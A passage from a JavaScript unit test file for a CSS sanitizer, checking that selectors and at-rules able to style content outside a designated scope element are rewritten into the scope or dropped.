      // A sibling of the scope element written by the user becomes a sibling inside the scope.
      [`.${SCOPE} ~ footer{color:red}`, `${S} ${S}~footer{color:red}`],
      [`.${SCOPE} + footer{color:red}`, `${S} ${S}+footer{color:red}`],
    ];
    for (const [input, output] of cases) {
      expect(sanitize(input).css).toBe(output);
      assertScopedAndSafe(output);
    }
    // Dropped outright: the root inside :is()/:where()/:not(), :has() anywhere, &, siblings of the scope.
    for (const input of [
      `:is(body) header{color:red}`, `:where(html *) a{color:red}`, `a:not(:root *){color:red}`, `:is(:scope) a{color:red}`,
      `body:has(main) footer{color:red}`, `a:not(:has(b)){color:red}`, `:host(.x) a{color:red}`, `:host-context(body) a{color:red}`,
      `& header{color:red}`, `a:is(&){color:red}`, `body ~ footer{color:red}`, `html + body{color:red}`,
      `a{& ~ footer{color:red}}`, `||a{color:red}`,
    ]) {
      expect({ input, css: sanitize(input).css }).toEqual({ input, css: "" });
    }
  });

  test("only @media and @keyframes survive; every other at-rule is dropped with its contents", () => {
    const atRules = [
      `@scope (body) to (main){header{color:red}}`, `@scope{:scope{color:red}}`, `@container (min-width:1px){header{color:red}}`,
      `@container x (width > 1px){a{color:red}}`, `@layer x{header{color:red}}`, `@layer x, y;`,
      `@property --x{syntax:"<length>";inherits:true;initial-value:1px}`, `@font-face{font-family:X;src:local(Arial)}`,
      `@page{margin:0}`, `@page :first{color:red}`, `@starting-style{a{opacity:0}}`, `@position-try --p{top:0}`,
      `@counter-style x{system:cyclic;symbols:"A"}`, `@view-transition{navigation:auto}`, `@font-palette-values --p{font-family:X}`,
      `@document url-prefix(){a{color:red}}`, `@-moz-document url-prefix(){a{color:red}}`, `@supports (color:red){a{color:red}}`,
      `@namespace x url(http://x);`, `@media (min-width:1px){@scope (a){b{color:red}}}`,
    ];
    for (const at of atRules) {
      const result = sanitize(`${at} p{color:green}`);
      expect({ at, css: result.css }).toEqual({ at, css: `${S} p{color:green}` });
      expect(result.removed.some((r) => r.startsWith("@"))).toBe(true);
    }
  });
});
